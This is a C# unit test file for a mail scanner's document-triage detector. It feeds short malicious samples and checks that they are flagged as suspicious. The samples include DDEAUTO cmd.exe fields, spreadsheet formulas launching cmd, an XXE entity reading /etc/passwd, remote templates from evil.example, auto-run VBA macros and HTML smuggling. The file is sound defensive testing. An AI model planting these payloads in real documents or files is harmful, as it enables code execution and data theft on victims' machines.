using System.Text;
using MailScanBridge.Samples.MailPcap.Formats;
using MailScanBridge.Scanning;
using MailScanBridge.Scanning.BuiltIn;
using MailScanBridge.Unpacking;
using Xunit;

namespace MailScanBridge.Tests.Scanning.BuiltIn;

public class DocumentTriageTests
{
    private static List<string> Check(string type, byte[] content, string? name = null)
    {
        var findings = new List<Finding>();
        var item = new ScanItem { Type = type, Name = name, Path = "/", Size = content.Length, Sha256 = "" };
        Assert.True(DocumentTriage.Serves(item));
        DocumentTriage.Check(item, content, findings, TestContext.Current.CancellationToken);
        Assert.All(findings, f => Assert.Equal(VerdictKind.Suspicious, f.Kind));
        return [.. findings.Select(f => f.Name)];
    }

    private static List<string> Check(string type, string content, string? name = null) => Check(type, Encoding.Latin1.GetBytes(content), name);

    [Theory]
    [InlineData("Sub AutoOpen()\nShell \"x\"\nEnd Sub", "Vba.AutoExecute")]
    [InlineData("Sub Workbook_Open()\nOpen p For _\r\n Binary As #1\nEnd Sub", "Vba.AutoExecute")]
    [InlineData("Private Declare Function f Lib \"kernel32\" ()\nSub Document_Open()\nEnd Sub", "Vba.AutoExecute")]
    [InlineData("Sub Button1_Click()\nx = 1\nEnd Sub", "Vba.AutoRun")]
    [InlineData("Sub Tidy()\nKill \"x\"\nEnd Sub", null)]
    public void Macros_are_weighed_by_what_starts_them_and_what_they_do(string source, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Vba, source));

    [Theory]
    [InlineData("<Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>", "Office.RemoteTemplate")]
    [InlineData("<Relationship TargetMode='External' Target='mhtml:http://evil.example/x' Type='http://x/oleObject' />", "Office.RemoteTemplate")]
    [InlineData("<Relationship Id=\"1\" Type=\"http://x/hyperlink\" Target=\"http://good.example/\" TargetMode=\"External\"/>", null)]
    [InlineData("<Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"Normal.dotm\"/>", null)]
    [InlineData("<w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
    [InlineData("<w:fldSimple w:instr=\"DDE &quot;c:\\cmd.exe&quot;\">", "Office.Dde")]
    [InlineData("<w:instrText>PAGE</w:instrText> DDE is dead", null)]
    [InlineData("<Relationship Id=\"1\" Type=\"http://x/&#x61;ttachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"&#69;xternal\"/>", "Office.RemoteTemplate")]
    [InlineData("<Relationship Id=\"a>b\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>", "Office.RemoteTemplate")]
    [InlineData("<r:Relationship Type='http://x/aFChunk' Target='http://evil.example/t.htm' TargetMode='External'/>", "Office.RemoteTemplate")]
    [InlineData("<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>", "Office.Dde")]
    [InlineData("<w:instrText>DDE<!-- x -->AUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
    [InlineData("<w:instrText><![CDATA[DDEAUTO]]> c:\\cmd.exe</w:instrText>", "Office.Dde")]
    [InlineData("<x:fldSimple x:instr='DDE c:\\cmd.exe'>", "Office.Dde")]
    [InlineData("<!-- never closed <w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
    [InlineData("<x:wordDocument x:macrosPresent='yes'>", "Office.VbaMacro")]
    [InlineData("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\">", "Office.Dde")]
    [InlineData("<Cell ss:Formula=\"=cmd|'/c calc'!A1\">", "Office.Dde")]
    [InlineData("<w:wordDocument w:macrosPresent=\"yes\">", "Office.VbaMacro")]
    public void Xml_of_documents_is_searched(string xml, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Xml, xml));

    [Theory]
    [InlineData("")]
    [InlineData("<?xml version=\"1.0\"?>")]
    [InlineData("<!-- a comment -->")]
    public void A_part_of_a_package_is_xml_whatever_it_begins_with(string front)
    {
        byte[] part = Encoding.UTF8.GetBytes(front + "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>");
        var findings = new List<Finding>();
        var package = new ScanItem { Type = ContentTypes.Docx, Path = "/", Size = 0, Sha256 = "" };
        ScanItem item = package with { Parent = package, Type = ContentTypes.Detect(part) };
        Assert.True(DocumentTriage.Serves(item));
        DocumentTriage.Check(item, part, findings, TestContext.Current.CancellationToken);
        Assert.Equal(["Office.RemoteTemplate"], findings.Select(f => f.Name));
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE x [ <!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document/>", true)]
    [InlineData("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>", true)]
    [InlineData("<!DOCTYPE html><p>an &lt;!ENTITY x", false)]
    public void Entities_are_odd_in_a_package_and_nowhere_else(string xml, bool found)
    {
        var findings = new List<Finding>();
        var part = new ScanItem { Type = ContentTypes.Xml, Path = "/", Size = 0, Sha256 = "" };
        DocumentTriage.Check(part with { Parent = part with { Type = ContentTypes.Docx } }, Encoding.UTF8.GetBytes(xml), findings, TestContext.Current.CancellationToken);

        Assert.Equal(found ? ["Office.XmlEntity"] : [], findings.Select(f => f.Name));
        Assert.Empty(Check(ContentTypes.Xml, xml));
    }

    [Theory]
    [InlineData("ID;PWXL;N;E\r\nO;L;D;V0;K47;G100 0.001\r\nC;Y1;X1;E1+1\r\n", null)]
    [InlineData("ID;P\nO;E\nNN;NAuto_open;ER101C1\n", "Office.Excel4Macro")]
    [InlineData("ID;P\r\nO;L;D;E;V0\r\n", "Office.Excel4Macro")]
    [InlineData("ID;P\nC;Y1;X1;K0;Ecmd|'/c calc'!A0\n", "Office.Dde")]
    public void Sheets_of_text_are_searched_for_macros(string sylk, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Sylk, sylk));

    [Theory]
    [InlineData("a,b\n=cmd|'/c calc'!A0,c\n", "Office.Dde")]
    [InlineData("a,b\n\"=cmd|'/c calc'!A0\",c\n", "Office.Dde")]
    [InlineData("a,-5,b|c!\n=A1+A2\n", null)]
    public void Tables_are_searched_for_cells_that_start_programs(string table, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Text, table, "t.csv"));

    [Theory]
    [InlineData("{\\rtf1{\\object{\\*\\objclass Equation.3}}}", "Rtf.Equation")]
    [InlineData("{\\rtf1{\\object\\objupdate{\\*\\objdata 01050000020000000200000041000000000000000000010000004100}}}", "Rtf.AutoObject")]
    [InlineData("{\\rtf1{\\object{\\*\\objdata 01050000ff}}}", "Rtf.BrokenObject")]
    [InlineData("{\\rtf1{\\field{\\*\\fldinst {DD}{\\b EAUTO} c:\\\\cmd.exe}}}", "Office.Dde")]
    [InlineData("{\\rtf1 hello}", null)]
    public void Objects_and_fields_of_an_rtf_are_weighed(string rtf, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Rtf, rtf));

    [Theory]
    [InlineData("<html><script>b=atob('x');a.href=URL.createObjectURL(new Blob([b]));a.download='x';a.click()</script>", "Html.Smuggling")]
    [InlineData("<html><script>new ActiveXObject('WScript.Shell')</script>", "Html.Program")]
    [InlineData("<html><script>document.title = 'x'</script><a href='x' download='y'>z</a>", null)]
    public void Pages_that_make_files_or_run_programs_are_suspicious(string page, string? finding) =>
        Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Html, page));

    [Fact]
    public void A_picture_with_a_script_is_suspicious() =>
        Assert.Equal(["Svg.Script"], Check(ContentTypes.Svg, "<svg><script>x</script></svg>"));

    [Theory]
    [InlineData(0, "Office.Excel4Macro")]
    [InlineData(2, "Office.HiddenExcel4Macro")]
    public void Macro_sheets_are_suspicious_and_hidden_ones_more_so(byte state, string finding)
    {
        byte[] workbook = [0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, state, 1, 0, 0];
        Assert.Equal([finding], Check(ContentTypes.Excel, new CompoundFileWriter().Add("Workbook", workbook).ToArray()));
    }

    [Theory]
    [InlineData("\u0013 DDEAUTO c:\\\\cmd.exe \u0014x\u0015", true)]
    [InlineData("\u0013PAGE\u0014 DDEAUTO c:\\\\cmd.exe \u0015", false)]
    public void A_field_of_an_old_document_is_read(string text, bool found)
    {
        byte[] wide = Encoding.Unicode.GetBytes("some text " + text), narrow = Encoding.Latin1.GetBytes("some text " + text);
        Assert.Equal(found ? ["Office.Dde"] : [], Check(ContentTypes.Word, new CompoundFileWriter().Add("WordDocument", wide).ToArray()));
        Assert.Equal(found ? ["Office.Dde"] : [], Check(ContentTypes.Word, new CompoundFileWriter().Add("WordDocument", narrow).ToArray()));
    }

    [Fact]
    public void An_equation_object_is_suspicious() =>
        Assert.Equal(["Office.Equation"], Check(ContentTypes.Word, new CompoundFileWriter().Add("WordDocument", new byte[20]).Add("ObjectPool/_1/Equation Native", [1]).ToArray()));
}
